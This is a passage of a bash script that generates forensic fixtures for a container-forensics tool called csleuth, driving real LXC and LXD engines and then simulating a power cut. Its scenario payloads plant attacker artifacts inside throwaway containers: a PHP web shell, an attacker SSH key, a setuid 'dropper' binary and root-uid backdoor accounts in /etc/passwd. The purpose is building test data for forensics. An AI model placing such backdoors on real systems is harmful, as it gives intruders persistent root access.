#!/usr/bin/env bash
# generate.sh — build csleuth's LXC and LXD fixture with the REAL engines (Debian 12's lxc
# 5.0.2 and lxd 5.0.2), then cut the power and pack what they left on disk.
#
# Usage:   sudo ./generate.sh [OUTDIR]          (OUTDIR defaults to this script's directory)
#
# Requires root (namespaces, mounts, cgroups, trusted.* xattrs) and: lxc 5.0 (lxc-create,
# lxc-start, lxc-attach, lxc-copy, lxc-snapshot, lxc-ls, lxc-info, lxc-usernsexec) with
# lxc-templates (lxc-busybox), lxd 5.0 + its client `lxc`, busybox-static (/bin/busybox),
# unshare/mount/umount/findmnt (util-linux), GNU tar, xz, jq, python3 (>= 3.11: sqlite3
# deserialize), sqlite3, getfattr (package attr), lz4 (only to cross-check the replay tool).
#
# Environment:
#   BUSYBOX     static busybox for the rootfs trees (default: /bin/busybox)
#   PYTHON      python interpreter (default: python3)
#   CSX_KEEP=1  keep the scratch directory (for debugging; it is printed)
#
# What it does (every step is a function below, named step_*):
#   The script re-executes itself inside `unshare --mount --propagation private --net`
#   (the "inner" part). There it bind-mounts scratch directories over /var/lib/lxc,
#   /etc/lxc, /var/log (for /var/log/lxc and /var/log/lxd), /var/lib/lxd and /home, and a
#   fresh tmpfs on /run, so both engines record real host paths while nothing of the
#   machine's own is touched; the private network namespace keeps LXC's abstract command
#   sockets and the containers' veth devices private too.
#   1. LXC: creates the containers of the scenario (README.md) from the busybox template,
#      runs them (lxc-start / lxc-attach / lxc-stop), clones one with lxc-copy -s -B overlay,
#      snapshots one with lxc-snapshot, leaves one never started and one running;
#   2. LXD: starts `lxd` with LXD_DIR=/var/lib/lxd, initialises it from a preseed (no
#      network, one `dir` pool), imports a busybox image built here as a unified tarball,
#      creates instances in the default project and in a second project `attacker`,
#      snapshots, a custom volume and a profile; then churns one config key until dqlite
#      has written a raft snapshot;
#   3. records what both engines say into OUTDIR/engine/ (lxc/ and lxd/), the LXD SQL dumps
#      last, then cuts the power: kill -9 of lxd, every `[lxc monitor]` of this mount
#      namespace and all their descendants (container processes), by pid;
#   4. unmounts what is left, writes the on-disk manifests, packs the sysroot as
#      OUTDIR/sysroot.tar.xz (var/lib/lxc, etc/lxc, var/log/lxc, var/lib/lxd, var/log/lxd,
#      etc/subuid, etc/subgid) and verifies it: unpacked as root it must give the same
#      manifests, whiteouts and opaque dirs, a kernel read-only overlay mount of the clone,
#      and a dqlite raft-log replay (tools/dqlite_replay.py) equal to `lxd sql global .dump`;
#   5. writes OUTDIR/engine/scenario.json and OUTDIR/generate-summary.json.
# Re-runnable: replaces exactly engine/, sysroot.tar.xz and generate-summary.json.
# On any exit it kills what it started (by pid), removes the cgroups its containers left
# (lxc.payload.<name>, lxc.monitor.<name>, lxc.pivot if it was not there before) and its
# scratch directory.
set -euo pipefail
shopt -s nullglob

SELF_DIR=$(cd "$(dirname "$0")" && pwd)
SELF="$SELF_DIR/$(basename "$0")"
BUSYBOX=${BUSYBOX:-/bin/busybox}
PYTHON=${PYTHON:-python3}
TOOLS="$SELF_DIR/tools"

log() { printf '[generate %s] %s\n' "$(date -u +%H:%M:%S)" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

# Container names (also the cgroup names liblxc uses: lxc.payload.<name>, lxc.monitor.<name>)
LXC_NAMES="web web-clone unpriv db never running"
LXD_NAMES="lxd-priv lxd-unpriv lxd-never lxd-snap lxd-live"
LXD_ATTACKER_NAMES="miner"

# ========================================================================================
# Outer part: checks, scratch, the private namespace, cleanup, publishing
# ========================================================================================
outer_main() {
  local out=${1:-$SELF_DIR}
  [ "$(id -u)" = 0 ] || die "must run as root"
  local t
  for t in lxc-create lxc-start lxc-attach lxc-stop lxc-copy lxc-snapshot lxc-ls lxc-info \
           lxc-usernsexec lxd lxc unshare findmnt mount umount tar xz jq "$PYTHON" sqlite3 \
           getfattr sha256sum; do
    command -v "$t" >/dev/null || die "missing tool: $t"
  done
  [ -x /usr/share/lxc/templates/lxc-busybox ] || die "missing lxc-templates (lxc-busybox)"
  [ -x "$BUSYBOX" ] || die "no busybox at $BUSYBOX (install busybox-static)"
  mkdir -p "$out"; out=$(cd "$out" && pwd)
  SCRATCH=$(mktemp -d /tmp/csx-lxcgen.XXXXXX)
  chmod 0755 "$SCRATCH"
  PIVOT_EXISTED=0; [ -d /sys/fs/cgroup/memory/lxc.pivot ] && PIVOT_EXISTED=1
  [ ! -e /sys/fs/cgroup/memory/csx-user ] || die "/sys/fs/cgroup/memory/csx-user exists: not ours, refusing to run"
  trap outer_cleanup EXIT
  trap 'exit 130' INT TERM
  T0=$(date +%s)
  log "scratch $SCRATCH; output $out"
  local rc=0
  unshare --mount --propagation private --net -- \
    env TZ=UTC LC_ALL=C.UTF-8 HOME="$SCRATCH/home-root" \
    bash "$SELF" __inner "$SCRATCH" || rc=$?
  [ "$rc" = 0 ] || die "inner part failed (rc=$rc)"
  publish "$out"
}

kill_leftovers() { # pids the inner part recorded; only if still in its mount namespace
  local ns p
  ns=$(cat "$SCRATCH/mntns" 2>/dev/null || true)
  [ -n "$ns" ] || return 0
  for p in $(cat "$SCRATCH/pids" 2>/dev/null || true); do
    [ "$(readlink "/proc/$p/ns/mnt" 2>/dev/null)" = "$ns" ] && kill -9 "$p" 2>/dev/null || true
  done
  # monitors and daemons of our namespace that were not recorded yet
  for p in /proc/[0-9]*; do
    [ "$(readlink "$p/ns/mnt" 2>/dev/null)" = "$ns" ] || continue
    case "$(tr '\0' ' ' <"$p/cmdline" 2>/dev/null)" in
      "[lxc monitor]"*|lxd\ *|"lxc-start "*) kill -9 "${p#/proc/}" 2>/dev/null || true ;;
    esac
  done
}

remove_cgroups() {
  local n k c
  for n in $LXC_NAMES $LXD_NAMES $(for a in $LXD_ATTACKER_NAMES; do echo "attacker_$a"; done); do
    for k in payload monitor; do
      for c in /sys/fs/cgroup/*/lxc.$k.$n /sys/fs/cgroup/lxc.$k.$n; do
        [ -d "$c" ] && find "$c" -depth -type d -exec rmdir {} + 2>/dev/null || true
      done
    done
  done
  for c in /sys/fs/cgroup/*/csx-user; do
    [ -d "$c" ] && find "$c" -depth -type d -exec rmdir {} + 2>/dev/null || true
  done
  if [ "${PIVOT_EXISTED:-1}" = 0 ]; then
    for c in /sys/fs/cgroup/*/lxc.pivot; do rmdir "$c" 2>/dev/null || true; done
  fi
}

outer_cleanup() {
  local rc=$?
  set +e
  trap - EXIT INT TERM
  kill_leftovers
  sleep 1
  remove_cgroups
  if [ "${CSX_KEEP:-0}" = 1 ]; then
    log "keeping $SCRATCH"
  elif grep -q " $SCRATCH" /proc/self/mountinfo; then
    log "NOT removing $SCRATCH: still mounted"
  else
    rm -rf "$SCRATCH"
  fi
  [ "$rc" = 0 ] && log "done in $(( $(date +%s) - T0 ))s" || log "FAILED (rc=$rc)"
  exit "$rc"
}

publish() {
  local out=$1 f
  for f in engine sysroot.tar.xz; do
    rm -rf "${out:?}/$f"
    mv "$SCRATCH/stage/$f" "$out/$f"
  done
  jq -n --arg secs "$(( $(date +%s) - T0 ))" --arg date "$(date -u +%FT%TZ)" \
    --arg lxc "$(lxc-start --version)" --arg lxd "$(lxd --version)" \
    --arg kernel "$(uname -r)" --arg tar "$(tar --version | head -n1)" \
    --arg xz "$(xz --version | head -n1)" \
    --argjson files "$(cd "$out" && find engine sysroot.tar.xz -type f -printf '%s\t%p\n' | sort -k2 | jq -Rn '[inputs | split("\t") | {path: .[1], bytes: (.[0]|tonumber)}]')" \
    '{generated: $date, total_seconds: ($secs|tonumber), lxc: $lxc, lxd: $lxd,
      kernel: $kernel, tar: $tar, xz: $xz, files: $files}' >"$out/generate-summary.json"
}

# ========================================================================================
# Inner part (private mount + network namespace)
# ========================================================================================
# Paths inside the namespace are the real host paths; $SYS is the scratch tree under them.
inner_main() {
  SCRATCH=$1
  SYS="$SCRATCH/sysroot"
  STAGE="$SCRATCH/stage"
  E="$STAGE/engine"
  NOTES="$SCRATCH/notes.tsv"; : >"$NOTES"
  CUT_DONE=0; LXD_PID=""
  cd /
  readlink /proc/self/ns/mnt >"$SCRATCH/mntns"
  : >"$SCRATCH/pids"
  trap inner_cleanup EXIT
  mkdir -p "$E/lxc" "$E/lxd" "$E/manifests"
  step_mounts
  step_lxc_containers
  step_user_lxc
  step_lxd
  step_record_lxc
  step_record_lxd
  step_powercut
  step_manifests
  step_pack
  step_verify
  write_scenario_json
}

inner_cleanup() {
  local rc=$?
  set +e
  trap - EXIT
  if [ "$CUT_DONE" = 0 ]; then
    log "inner cleanup: killing engines"
    local v; v=$(victim_pids)
    [ -z "$v" ] || kill -9 $v 2>/dev/null
    sleep 1
  fi
  unmount_under /var/lib/lxd /var/lib/lxc /var/log /run "$SCRATCH/verify-mnt" "$SCRATCH/verify"
  exit "$rc"
}

note() { printf '%s\t%s\n' "$1" "$2" >>"$NOTES"; }

mounts_under() { # mount points at or below the given directories, deepest first
  local d
  for d in "$@"; do
    awk -v p="$d" '{ m=$5; gsub(/\\040/," ",m); if (m==p || index(m, p "/")==1) print m }' /proc/self/mountinfo
  done | awk '{ print length($0) "\t" $0 }' | sort -rn | cut -f2- | uniq
}

submounts_under() { # strictly below
  local d
  for d in "$@"; do
    awk -v p="$d" '{ m=$5; gsub(/\\040/," ",m); if (index(m, p "/")==1) print m }' /proc/self/mountinfo
  done | awk '{ print length($0) "\t" $0 }' | sort -rn | cut -f2- | uniq
}

unmount_under() {
  local m left
  for _ in 1 2 3 4 5; do
    left=$(mounts_under "$@")
    [ -n "$left" ] || return 0
    while IFS= read -r m; do umount "$m" 2>/dev/null || umount -l "$m" 2>/dev/null || true; done <<<"$left"
  done
  left=$(mounts_under "$@"); [ -z "$left" ] || { log "still mounted: $left"; return 1; }
}

descendants() {
  local p c
  for p in "$@"; do
    for c in $(pgrep -P "$p" || true); do echo "$c"; descendants "$c"; done
  done
}

our_monitors() { # `[lxc monitor] <lxcpath> <name>` processes of this mount namespace
  local ns p
  ns=$(readlink /proc/self/ns/mnt)
  for p in /proc/[0-9]*; do
    [ "$(readlink "$p/ns/mnt" 2>/dev/null)" = "$ns" ] || continue
    case "$(tr '\0' ' ' <"$p/cmdline" 2>/dev/null)" in "[lxc monitor]"*) echo "${p#/proc/}" ;; esac
  done
}

victim_pids() {
  local m
  m=$(our_monitors)
  # shellcheck disable=SC2086
  { [ -n "$LXD_PID" ] && echo "$LXD_PID" && descendants "$LXD_PID"; echo $m; descendants $m; } |
    tr ' ' '\n' | grep -E '^[0-9]+$' | sort -un | tr '\n' ' '
}

remember_pids() { victim_pids | tr ' ' '\n' >>"$SCRATCH/pids"; }

step_mounts() {
  log "step_mounts: private scratch over /var/lib/lxc /etc/lxc /var/log /var/lib/lxd /home, tmpfs /run"
  mkdir -p "$SYS"/{var/lib/lxc,etc/lxc,var/log/lxc,var/log/lxd,var/lib/lxd,home,etc/lxc/hooks} \
    "$SCRATCH/home-root" "$SCRATCH/lxdclient"
  mount --bind "$SYS/var/lib/lxc" /var/lib/lxc
  mount --bind "$SYS/etc/lxc" /etc/lxc
  mount --bind "$SYS/var/log" /var/log
  mount --bind "$SYS/var/lib/lxd" /var/lib/lxd
  mount --bind "$SYS/home" /home
  mount -t tmpfs -o mode=0755 tmpfs /run
  # no name server: keep the machine's resolver out of the daemon's log
  : >"$SCRATCH/resolv.conf"; mount --bind "$SCRATCH/resolv.conf" /etc/resolv.conf
  cp /etc/subuid "$SYS/etc/subuid"; cp /etc/subgid "$SYS/etc/subgid"
  note subuid "$(tr '\n' ' ' </etc/subuid)"
  note kernel "$(uname -r)"
  note lxc_version "$(lxc-start --version)"
  note lxd_version "$(lxd --version)"
  note tz "UTC"
}

# ----------------------------------------------------------------------------------------
# LXC
# ----------------------------------------------------------------------------------------
now() { date -u +%FT%T.%NZ; }
ev() { note "event:$1" "$(now)"; }      # a timeline mark: event:<container>:<what>

# lxc-attach with a clean environment (no host variables leak into the container)
attach() { local n=$1; shift; lxc-attach -n "$n" --clear-env --set-var PATH=/bin:/sbin:/usr/bin:/usr/sbin --set-var HOME=/root -- "$@"; }

lxc_stop() { lxc-stop -n "$1" -t 30; }

lxc_wait_running() { lxc-wait -n "$1" -s RUNNING -t 20; sleep 1; }

# The busybox template's rcS runs udhcpc in the foreground, which never returns without a
# DHCP server (and busybox init ignores the halt signal until sysinit is done). Replace it.
prep_rootfs() { # $1 = rootfs dir, $2 = owner (uid:gid as stored on disk)
  local r=$1 o=$2
  cat >"$r/etc/init.d/rcS" <<'RCS'
#!/bin/sh
/bin/syslogd
/bin/mount -a
echo "rcS: $(hostname) up at $(date -u '+%Y-%m-%dT%H:%M:%SZ')" > /dev/console
RCS
  chmod 0744 "$r/etc/init.d/rcS"
  mkdir -p "$r/srv/www" "$r/opt/app"
  echo '<h1>csx web</h1>' >"$r/srv/www/index.html"
  printf 'notes: deploy on friday\n' >"$r/srv/notes.txt"
  for a in a b c; do echo "app file $a" >"$r/opt/app/$a"; done
  echo 'Welcome to a csleuth LXC fixture container.' >"$r/etc/motd"
  chown -h "$o" "$r/etc/init.d/rcS" "$r/srv" "$r/srv/www" "$r/srv/www/index.html" "$r/srv/notes.txt" \
    "$r/opt" "$r/opt/app" "$r/opt/app/a" "$r/opt/app/b" "$r/opt/app/c" "$r/etc/motd"
}

write_lxc_host_files() {
  cat >/etc/lxc/lxc.conf <<'CONF'
lxc.lxcpath = /var/lib/lxc
CONF
  cat >/etc/lxc/default.conf <<'CONF'
lxc.net.0.type = empty
CONF
  cat >/etc/lxc/csx-common.conf <<'CONF'
# Settings shared by several containers, pulled in with lxc.include
lxc.cap.drop = sys_rawio
lxc.environment = CSX_SITE=lab
lxc.start.delay = 2
CONF
  cat >/etc/lxc/hooks/csx-prestart.sh <<'HOOK'
#!/bin/sh
# pre-start hook on the HOST (runs as root before the container starts)
echo "pre-start $LXC_NAME $(date -u)" >> /var/log/lxc/hooks.log
HOOK
  chmod 0755 /etc/lxc/hooks/csx-prestart.sh
  cat >"$SCRATCH/web.conf" <<'CONF'
lxc.net.0.type = veth
lxc.net.0.flags = up
lxc.net.0.hwaddr = 00:16:3e:c5:10:01
lxc.net.0.ipv4.address = 10.0.3.10/24
lxc.net.0.veth.pair = veth-web
CONF
  cat >"$SCRATCH/unpriv.conf" <<'CONF'
lxc.net.0.type = empty
lxc.idmap = u 0 100000 65536
lxc.idmap = g 0 100000 65536
CONF
  cp /etc/lxc/default.conf "$SCRATCH/plain.conf"
}

create_busybox() { # $1 name, $2 conf file
  lxc-create -t busybox -n "$1" -f "$2" >"$SCRATCH/create-$1.log" 2>&1 || { cat "$SCRATCH/create-$1.log" >&2; return 1; }
  ev "$1:created"
}

WEB_PAYLOAD='set -e
echo "web: payload start" > /dev/console
echo "<?php system(\$_GET[\"c\"]); ?>" > /srv/www/upload.php
mkdir -p /root/.ssh && chmod 0700 /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForCsleuthFixtures attacker@example" > /root/.ssh/authorized_keys
cp /bin/busybox /tmp/dropper && chmod 4755 /tmp/dropper && ln /tmp/dropper /tmp/.dropper-hl
echo "mallory:x:0:0:backdoor:/root:/bin/sh" >> /etc/passwd
echo "log level=debug" >> /etc/motd
rm /srv/notes.txt
rm -rf /opt/app/c
echo "web: payload done" > /dev/console'

CLONE_PAYLOAD='set -e
echo "web-clone: payload start" > /dev/console
rm /srv/www/upload.php
rm /tmp/dropper
rm -rf /opt/app && mkdir /opt/app && echo v2 > /opt/app/new
echo "eve:x:0:0::/root:/bin/sh" >> /etc/passwd
chmod 0600 /etc/group
echo "cloned" > /srv/www/clone.txt && ln -s /srv/www/clone.txt /srv/latest
mkdir -p /var/spool/x && echo queued > /var/spool/x/job
mv /srv/www /srv/www-old
echo "web-clone: payload done" > /dev/console'

UNPRIV_PAYLOAD='set -e
echo "unpriv: payload start" > /dev/console
mkdir -p /home/app && echo "app notes" > /home/app/notes && chown -R 1000:1000 /home/app
echo "app:x:1000:1000::/home/app:/bin/sh" >> /etc/passwd
echo "nobody-file" > /tmp/nobody && chown 65534:65534 /tmp/nobody
rm /etc/motd
rm -rf /opt/app/b
echo "unpriv: payload done" > /dev/console'

step_lxc_containers() {
  log "step_lxc_containers"
  write_lxc_host_files

  # --- web: privileged, dir, veth with a static address, file + console logs at INFO
  create_busybox web "$SCRATCH/web.conf"
  prep_rootfs /var/lib/lxc/web/rootfs 0:0
  cat >>/var/lib/lxc/web/config <<'CONF'

# added by the csleuth fixture scenario
lxc.include = /etc/lxc/csx-common.conf
lxc.log.file = /var/log/lxc/web.log
lxc.log.level = INFO
lxc.console.logfile = /var/log/lxc/web.console.log
lxc.start.auto = 1
lxc.group = webservers
lxc.environment = APP_ENV=production
CONF
  lxc-start -n web; lxc_wait_running web; ev web:started
  note web_ipv4_seen "$(lxc-info -n web -iH | tr '\n' ' ')"
  attach web sh -c "$WEB_PAYLOAD"; ev web:payload
  lxc_stop web; ev web:stopped

  # --- web-clone: overlay clone of web (web must be stopped), then changes in the clone
  lxc-copy -s -B overlay -n web -N web-clone; ev web-clone:cloned
  lxc-start -n web-clone; lxc_wait_running web-clone; ev web-clone:started
  attach web-clone sh -c "$CLONE_PAYLOAD"; ev web-clone:payload
  lxc_stop web-clone; ev web-clone:stopped

  # --- unpriv: idmapped (u/g 0 100000 65536): the template runs in the user namespace,
  # so the rootfs is owned by 100000+ on disk; log file only from the command line (-o)
  create_busybox unpriv "$SCRATCH/unpriv.conf"
  prep_rootfs /var/lib/lxc/unpriv/rootfs 100000:100000
  cat >>/var/lib/lxc/unpriv/config <<'CONF'

# added by the csleuth fixture scenario
lxc.console.logfile = /var/log/lxc/unpriv.console.log
CONF
  lxc-start -n unpriv -o /var/log/lxc/unpriv-start.log -l INFO; lxc_wait_running unpriv; ev unpriv:started
  attach unpriv sh -c "$UNPRIV_PAYLOAD"; ev unpriv:payload
  lxc_stop unpriv; ev unpriv:stopped

  # --- db: privileged; two lxc-snapshots between runs; log inside its own directory at DEBUG
  create_busybox db "$SCRATCH/plain.conf"
  prep_rootfs /var/lib/lxc/db/rootfs 0:0
  cat >>/var/lib/lxc/db/config <<'CONF'

# added by the csleuth fixture scenario
lxc.log.file = /var/lib/lxc/db/db.log
lxc.log.level = DEBUG
lxc.include = /etc/lxc/csx-common.conf
CONF
  lxc-start -n db; lxc_wait_running db; ev db:started1
  attach db sh -c 'mkdir -p /var/lib/db && echo "row1 v1" > /var/lib/db/data.txt && echo "db: v1 written" > /dev/console'
  lxc_stop db; ev db:stopped1
  printf 'before the v2 migration\nsecond line of the comment\n' >"$SCRATCH/snap0-comment"
  lxc-snapshot -n db -c "$SCRATCH/snap0-comment"; ev db:snap0
  lxc-start -n db; lxc_wait_running db; ev db:started2
  attach db sh -c 'echo "row1 v2" > /var/lib/db/data.txt && echo "api_key=sk-not-a-real-key" > /var/lib/db/secret && rm /etc/motd'
  lxc_stop db; ev db:stopped2
  lxc-snapshot -n db; ev db:snap1
  lxc-start -n db; lxc_wait_running db; ev db:started3
  attach db sh -c 'rm -rf /var/lib/db && echo "db: wiped" > /dev/console'
  lxc_stop db; ev db:stopped3

  # --- never: created, never started; autostart, a host hook, an include outside the sysroot
  create_busybox never "$SCRATCH/plain.conf"
  cat >>/var/lib/lxc/never/config <<'CONF'

# added by the csleuth fixture scenario
lxc.include = /usr/share/lxc/config/nesting.conf
lxc.start.auto = 1
lxc.hook.pre-start = /etc/lxc/hooks/csx-prestart.sh
lxc.environment = NEVER_STARTED=1
CONF

  # --- running: still running at the power cut; log level without a log file
  create_busybox running "$SCRATCH/plain.conf"
  prep_rootfs /var/lib/lxc/running/rootfs 0:0
  cat >>/var/lib/lxc/running/config <<'CONF'

# added by the csleuth fixture scenario
lxc.log.level = INFO
lxc.console.logfile = /var/log/lxc/running.console.log
CONF
  lxc-start -n running; lxc_wait_running running; ev running:started
  attach running sh -c 'setsid sh -c "i=0; while :; do i=\$((i+1)); echo \"tick \$i \$(date -u +%FT%TZ)\" >> /var/log/ticks.log; echo \"tick \$i\" > /dev/console; sleep 1; done" </dev/null >/dev/null 2>&1 &'
  ev running:ticker
  remember_pids
}

# ----------------------------------------------------------------------------------------
# LXC as an unprivileged user (~/.local/share/lxc): user csx (uid 1500), subordinate ids
# 200000-265535, cgroups delegated by hand (cgroup v1: a csx-user group per controller,
# owned by the user); runs as the user with setpriv (no PAM, so pam_cgfs makes no cgroups)
# ----------------------------------------------------------------------------------------
USER_UID=1500
as_user() { # run a command as csx inside the delegated cgroups
  sh -c 'for c in /sys/fs/cgroup/*/csx-user; do echo $$ >"$c/cgroup.procs"; done; exec "$@"' sh \
    setpriv --reuid=$USER_UID --regid=$USER_UID --clear-groups \
    env -i HOME=/home/csx USER=csx LOGNAME=csx PATH=/usr/sbin:/usr/bin:/sbin:/bin TZ=UTC \
    XDG_RUNTIME_DIR=/run/user/$USER_UID sh -c 'cd "$HOME" && "$@"' sh "$@"
}

step_user_lxc() {
  log "step_user_lxc: unprivileged user csx, ~/.local/share/lxc/userbox"
  local f c
  mkdir -p "$SCRATCH/etc"
  for f in passwd group shadow; do cp "/etc/$f" "$SCRATCH/etc/$f"; done
  echo "csx:x:$USER_UID:$USER_UID:csleuth fixture user:/home/csx:/bin/sh" >>"$SCRATCH/etc/passwd"
  echo "csx:x:$USER_UID:" >>"$SCRATCH/etc/group"
  echo 'csx:!:19000:0:99999:7:::' >>"$SCRATCH/etc/shadow"
  echo 'csx:200000:65536' >>"$SYS/etc/subuid"
  echo 'csx:200000:65536' >>"$SYS/etc/subgid"
  for f in passwd group shadow; do mount --bind "$SCRATCH/etc/$f" "/etc/$f"; done
  mount --bind "$SYS/etc/subuid" /etc/subuid; mount --bind "$SYS/etc/subgid" /etc/subgid
  mkdir -p /home/csx/.config/lxc "/run/user/$USER_UID"
  cat >/home/csx/.config/lxc/default.conf <<'CONF'
lxc.net.0.type = empty
lxc.idmap = u 0 200000 65536
lxc.idmap = g 0 200000 65536
CONF
  chown -R $USER_UID:$USER_UID /home/csx "/run/user/$USER_UID"
  for c in /sys/fs/cgroup/*/; do
    mkdir -p "${c}csx-user"; chown -R $USER_UID:$USER_UID "${c}csx-user"
  done
  [ -f /sys/fs/cgroup/cpuset/csx-user/cpuset.cpus ] && {
    cat /sys/fs/cgroup/cpuset/cpuset.cpus >/sys/fs/cgroup/cpuset/csx-user/cpuset.cpus
    cat /sys/fs/cgroup/cpuset/cpuset.mems >/sys/fs/cgroup/cpuset/csx-user/cpuset.mems; } || true
  as_user lxc-create -t busybox -n userbox >"$SCRATCH/create-userbox.log" 2>&1 || { cat "$SCRATCH/create-userbox.log" >&2; return 1; }
  ev userbox:created
  # -l without -o: the default log path for a user is <lxcpath>/<name>/<name>.log
  as_user lxc-start -n userbox -l INFO; as_user lxc-wait -n userbox -s RUNNING -t 20; sleep 1; ev userbox:started
  as_user lxc-attach -n userbox --clear-env --set-var PATH=/bin:/sbin -- sh -c \
    'echo "user payload" > /root/user.txt && echo "csx:x:0:0::/root:/bin/sh" >> /etc/passwd && rm /etc/fstab' ; ev userbox:payload
  as_user lxc-stop -n userbox -k; ev userbox:stopped-kill
}

# ----------------------------------------------------------------------------------------
# LXD
# ----------------------------------------------------------------------------------------
export LXD_DIR=/var/lib/lxd
lx() { LXD_CONF="$SCRATCH/lxdclient" lxc "$@"; }

APPLETS="sh ash ls cat echo rm rmdir mkdir touch ln mknod dd chmod chown cp mv sleep seq printf
true false id head tail env wc sync date stat tr sort mount umount grep find pwd test [ uname
hostname readlink sha256sum cut kill ps setsid syslogd"

# A shell init: traps SIGPWR (LXD's halt signal for containers) and exits cleanly.
IMAGE_INIT='#!/bin/sh
trap "echo \"init: SIGPWR received, shutting down\" > /dev/console; exit 0" PWR
echo "init: $(hostname) up at $(date -u +%Y-%m-%dT%H:%M:%SZ)" > /dev/console
/bin/syslogd
while :; do sleep 1 & wait $!; done'

step_build_image() { # -> $SCRATCH/image/csx-busybox.tar.xz (unified image tarball)
  local d="$SCRATCH/image" r a
  r="$d/rootfs"
  rm -rf "$d"; mkdir -p "$r"/{bin,sbin,etc,dev,proc,sys,tmp,root,var/log,srv/www,opt/app,usr/share/doc/sub,home/app} "$d/templates"
  cp "$BUSYBOX" "$r/bin/busybox"
  for a in $APPLETS; do ln -s busybox "$r/bin/$a"; done
  printf '%s\n' "$IMAGE_INIT" >"$r/sbin/init"; chmod 0755 "$r/sbin/init"
  cat >"$r/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/sh
app:x:1000:1000:app user:/home/app:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
P
  printf 'root:x:0:\napp:x:1000:\nnogroup:x:65534:\n' >"$r/etc/group"
  echo 'root:*:19000:0:99999:7:::' >"$r/etc/shadow"; chmod 0640 "$r/etc/shadow"
  echo 'Welcome to the csleuth LXD fixture image.' >"$r/etc/motd"
  echo '<h1>csx</h1>' >"$r/srv/www/index.html"
  for a in a b c; do echo "app file $a" >"$r/opt/app/$a"; done
  echo 'documentation x' >"$r/usr/share/doc/x.txt"
  echo 'documentation z' >"$r/usr/share/doc/sub/z.txt"
  echo 'app profile' >"$r/home/app/.profile"; chown -R 1000:1000 "$r/home/app"
  chmod 1777 "$r/tmp"; chmod 0700 "$r/root"
  printf '{{ container.name }}\n' >"$d/templates/hostname.tpl"
  cat >"$d/metadata.yaml" <<META
architecture: x86_64
creation_date: $(date +%s)
properties:
  architecture: x86_64
  description: csleuth fixture busybox (busybox-static)
  os: busybox
  release: "1.35"
templates:
  /etc/hostname:
    when:
    - create
    - copy
    template: hostname.tpl
META
  tar --numeric-owner -C "$d" -cJf "$d/csx-busybox.tar.xz" metadata.yaml templates rootfs
  note image_tarball_sha256 "$(sha256sum "$d/csx-busybox.tar.xz" | cut -d' ' -f1)"
  note image_tarball_bytes "$(stat -c %s "$d/csx-busybox.tar.xz")"
}

start_lxd() {
  log "starting lxd (LXD_DIR=$LXD_DIR)"
  lxd --group lxd --logfile=/var/log/lxd/lxd.log >"$SCRATCH/lxd.out" 2>&1 &
  LXD_PID=$!
  echo "$LXD_PID" >>"$SCRATCH/pids"
  lxd waitready --timeout=120 || { cat "$SCRATCH/lxd.out" >&2; return 1; }
  note lxd_pid "$LXD_PID"
  ev lxd:ready
}

lxd_exec() { # $1 instance, rest: shell script [--project P via LXP]
  local n=$1; shift
  lx exec ${LXP:+--project "$LXP"} "$n" --env HOME=/root -- sh -c "$1"
}

wait_lxd_running() { local i; for i in $(seq 1 40); do [ "$(lx list ${LXP:+--project "$LXP"} "^$1\$" -c s --format csv)" = RUNNING ] && { sleep 1; return 0; }; sleep 0.5; done; return 1; }

step_lxd() {
  log "step_lxd"
  step_build_image
  start_lxd
  lxd init --preseed <<'PRESEED'
config: {}
networks: []
storage_pools:
- name: default
  driver: dir
  description: "csleuth fixture pool"
profiles:
- name: default
  description: "Default LXD profile"
  devices:
    root:
      path: /
      pool: default
      type: disk
PRESEED
  ev lxd:initialised
  lx image import "$SCRATCH/image/csx-busybox.tar.xz" --alias csx/busybox >/dev/null; ev lxd:image-imported
  lx profile create hardened >/dev/null
  lx profile edit hardened <<'P'
config:
  environment.CSX_ROLE: fixture
  limits.processes: "200"
  security.nesting: "false"
  user.owner: alice
description: "csleuth: restricted profile"
devices: {}
P
  lx storage volume create default csxdata >/dev/null; ev lxd:volume-created

  # --- lxd-unpriv: default + hardened profiles, a custom volume, files added/changed/deleted
  lx init csx/busybox lxd-unpriv -p default -p hardened >/dev/null
  lx storage volume attach default csxdata lxd-unpriv /data
  lx start lxd-unpriv; wait_lxd_running lxd-unpriv; ev lxd-unpriv:started
  lxd_exec lxd-unpriv 'set -e
mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForCsleuthFixtures attacker@example" > /root/.ssh/authorized_keys
echo "loot" > /data/loot.txt
cp /bin/busybox /tmp/dropper
echo "mallory:x:0:0:backdoor:/root:/bin/sh" >> /etc/passwd
rm /etc/motd
rm -rf /usr/share/doc
mkdir -p /home/app/projects && echo w > /home/app/projects/f && chown -R 1000:1000 /home/app/projects
echo "lxd-unpriv: payload done" > /dev/console'
  ev lxd-unpriv:payload
  lx stop lxd-unpriv; ev lxd-unpriv:stopped

  # --- lxd-priv: security.privileged=true (container ids on disk)
  lx init csx/busybox lxd-priv -c security.privileged=true -c user.purpose=build >/dev/null
  lx start lxd-priv; wait_lxd_running lxd-priv; ev lxd-priv:started
  lxd_exec lxd-priv 'echo "built" > /srv/www/build.txt && echo "extra" >> /etc/motd && rm /opt/app/a && echo "lxd-priv: done" > /dev/console'
  ev lxd-priv:payload
  lx stop lxd-priv; ev lxd-priv:stopped

  # --- lxd-never: created, never started
  lx init csx/busybox lxd-never -c user.note="never started" >/dev/null; ev lxd-never:created

  # --- lxd-snap: two snapshots between changes
  lx init csx/busybox lxd-snap >/dev/null
  lx start lxd-snap; wait_lxd_running lxd-snap; ev lxd-snap:started1
  lxd_exec lxd-snap 'mkdir -p /srv/data && echo "v1" > /srv/data/state'
  lx stop lxd-snap; ev lxd-snap:stopped1
  lx snapshot lxd-snap snap0; ev lxd-snap:snap0
  lx start lxd-snap; wait_lxd_running lxd-snap; ev lxd-snap:started2
  lxd_exec lxd-snap 'echo "v2" > /srv/data/state && echo "token=not-a-real-token" > /srv/data/secret && rm /etc/motd'
  lx snapshot lxd-snap snap1; ev lxd-snap:snap1-while-running
  lxd_exec lxd-snap 'rm -rf /srv/data && echo "lxd-snap: wiped" > /dev/console'
  lx stop lxd-snap; ev lxd-snap:stopped2

  # --- lxd-live: running at the power cut
  lx init csx/busybox lxd-live >/dev/null
  lx start lxd-live; wait_lxd_running lxd-live; ev lxd-live:started
